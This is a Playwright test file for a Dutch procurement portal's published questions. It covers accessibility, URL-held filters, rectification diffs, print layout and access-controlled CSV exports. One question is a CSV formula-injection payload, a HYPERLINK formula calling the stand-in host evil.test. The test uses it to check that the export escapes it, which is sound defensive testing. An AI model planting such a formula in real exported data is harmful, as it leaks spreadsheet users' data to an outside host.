import { expect, test, type Browser, type Page } from '@playwright/test';
import { rectifyAnswer } from '~/services/releases/rectify-answer.server';
import { violations } from '../support/axe';
import { doorFor } from '../support/door';
import { startPortal, type Portal } from '../support/portal';
import { startTender, type Tender } from '../support/tender';
import { pageOf } from '../support/visitor';

let portal: Portal;
let tender: Tender;
let releaseId: string;
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"klik")';

test.beforeAll(async () => {
  portal = await startPortal();
  tender = await startTender(portal);
  const { build, procedure, anna, bram, lead, ask, answered, release } = tender;
  const first = await answered(anna, 'Mag een organisatie twee keer meedoen?');
  ({ releaseId } = await release([first, await answered(bram, FORMULA)]));
  const [published] = await portal.superuser<{ id: string }[]>`
    select id from portal.published_question where number = 1`;
  await rectifyAnswer(build.ctx(lead), procedure.id, published!.id, {
    ...{ id: crypto.randomUUID(), question: 'Mag een organisatie twee keer meedoen?' },
    ...{ answer: 'Nee, dat mag niet.', reason: 'Verkeerde regel gelezen.' },
  });
  await ask(anna, 'Kanariegeel: nog niet vrijgegeven.');
  await answered(bram, 'Klaar om vrij te geven?');
});
test.afterAll(() => portal.stop());

const paths = () => ({
  anna: ['', '?zoek=organisatie', '?zoek=bestaatniet', '?eigen=ja', '/vragen/nr/1', '/nota/1', '/nota/2'],
  lead: [
    '',
    '?zoek=klaar',
    '/behandelen',
    '/behandelen?zoek=bestaatniet',
    '/vrijgeven',
    `/notas/${releaseId}`,
  ],
});

for (const [language, colorScheme] of [
  ['nl', 'dark'],
  ['en', 'light'],
] as const)
  test(`every page of questions is fit for all, in ${language}, ${colorScheme}`, async ({ browser }) => {
    test.setTimeout(90_000);
    for (const [name, list] of Object.entries(paths())) {
      const page = await pageOf(browser, portal, tender[name as 'anna' | 'lead'], { colorScheme });
      await page.context().addCookies([{ name: 'language', value: language, url: portal.origin }]);
      for (const path of list) {
        await page.goto(tender.home + path);
        await page.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
        for (const width of [1280, 360]) {
          await page.setViewportSize({ width, height: 900 });
          expect.soft(await violations(page), `${name} ${path} ${width}`).toEqual([]);
          expect
            .soft(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth), path)
            .toBeLessThanOrEqual(0);
        }
      }
      await page.context().close();
    }
  });

/** Fills the filter in and sends it; what is found, and the address that says the same. */
async function filter(page: Page, fields: { words?: string; lot?: string; own?: boolean }) {
  await page.getByLabel('Zoek op woord of nummer').fill(fields.words ?? '');
  await page.getByLabel('Perceel').selectOption(fields.lot ?? '');
  await page.getByLabel('Alleen gesteld door uw partij').setChecked(fields.own ?? false);
  await page.getByRole('button', { name: 'Toon', exact: true }).click();
}
const numbers = (page: Page) =>
  page.locator('article').evaluateAll((all) => all.map((one) => Number((one as HTMLElement).dataset.number)));

for (const javaScriptEnabled of [true, false])
  test(`a filter stands in the address, ${javaScriptEnabled ? 'with' : 'without'} scripts`, async ({
    browser,
  }) => {
    const page = await pageOf(browser, portal, tender.anna, { javaScriptEnabled });
    await page.goto(tender.home);
    await filter(page, { words: 'organisatie' });
    await expect(page.getByText('1 vraag gevonden.')).toBeVisible();
    expect(await numbers(page)).toEqual([1]);
    await expect(page).toHaveURL(/[?&]zoek=organisatie/);
    await page.goto(page.url()); // as somebody else would who was sent the address
    await expect(page.getByLabel('Zoek op woord of nummer')).toHaveValue('organisatie');
    expect(await numbers(page)).toEqual([1]);

    await filter(page, { own: true, lot: 'procedure' });
    await expect(page).toHaveURL(/perceel=procedure/);
    await expect(page.getByLabel('Alleen gesteld door uw partij')).toBeChecked();
    expect(await numbers(page)).toEqual([1]);

    await filter(page, { words: 'bestaatniet' });
    await expect(page.getByText('Geen vrijgegeven vraag past hierbij.')).toBeVisible();
    await expect(page.getByText('wis de filters.')).toBeVisible();
    await page.getByRole('link', { name: 'Wis filters' }).click();
    await expect(page.locator('article')).toHaveCount(2);
    await expect(page.getByLabel('Zoek op woord of nummer')).toHaveValue('');
    await expect(page.getByRole('link', { name: 'Wis filters' })).toHaveCount(0);
    await page.context().close();
  });

test('a thread shows what a rectification changed, side by side', async ({ browser }) => {
  const page = await pageOf(browser, portal, tender.bram);
  await page.goto(tender.home);
  await page.getByRole('link', { name: 'Vraag 1', exact: true }).click();
  const article = page.locator('[data-number="1"]');
  await expect(article.locator('ins')).toContainText('Nee, dat mag niet.');
  await expect(article.locator('del')).toContainText('Antwoord op:');
  const [old, next] = await Promise.all(['del', 'ins'].map((tag) => article.locator(tag).boundingBox()));
  expect(old!.x).toBeLessThan(next!.x);
  await page.context().close();
});

test('a notice prints as a numbered document with its proof, and without a door to click', async ({
  browser,
}) => {
  const page = await pageOf(browser, portal, tender.anna, { viewport: { width: 700, height: 1000 } });
  await page.goto(`${tender.home}/nota/1`);
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByRole('heading', { name: 'Nota van inlichtingen 1' })).toBeVisible();
  await expect(page.getByText(`/notas/${releaseId}/bewijs`)).toBeVisible();
  await expect(page.getByText('Let op: deze tekst is daarna gerectificeerd, in nota 2.')).toBeVisible();
  for (const hidden of [
    page.getByText('Namens Verband A'),
    page.getByText('Afdrukken'),
    page.locator('.bar'),
  ])
    await expect(hidden).toBeHidden();
  await page.emulateMedia({ media: 'screen' });
  const proof = await page.request.get(
    (await page.getByRole('link', { name: 'Bewijs van deze nota' }).getAttribute('href'))!,
  );
  expect(((await proof.json()) as { view: { data: { release: { id: string } } } }).view.data.release.id).toBe(
    releaseId,
  );
  await page.context().close();
});

test('files hold what their reader may read, and no formula', async ({ browser }) => {
  const { home, anna, bram, lead } = tender;
  const [a, b, l] = await Promise.all([anna, bram, lead].map((who) => doorFor(portal, who)));
  const file = await b!.get(`${home}/vragen.csv`);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(file.headers.get('cache-control')).toBe('no-store');
  expect(file.body).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1;""klik"")"`);
  expect(file.body).not.toMatch(/Kanariegeel|Klaar om vrij/);
  expect((await a!.get(`${home}/vragen.csv`)).body).toBe(file.body); // the same for all
  expect((await b!.get(`${home}/vragen.csv?zoek=organisatie`)).body.trim().split('\r\n')).toHaveLength(3);
  const deliveries = `${home}/notas/${releaseId}/ontvangst.csv`;
  expect((await l!.get(deliveries)).body).toContain('"Anna A";"Verband A"');
  expect((await b!.get(deliveries)).status).toBe(404);
  expect((await doorless(browser, deliveries)).status()).not.toBe(200);
});

const doorless = async (browser: Browser, path: string) => {
  const context = await browser.newContext({ baseURL: portal.origin });
  const response = await context.request.get(path, { maxRedirects: 0 });
  await context.close();
  return response;
};
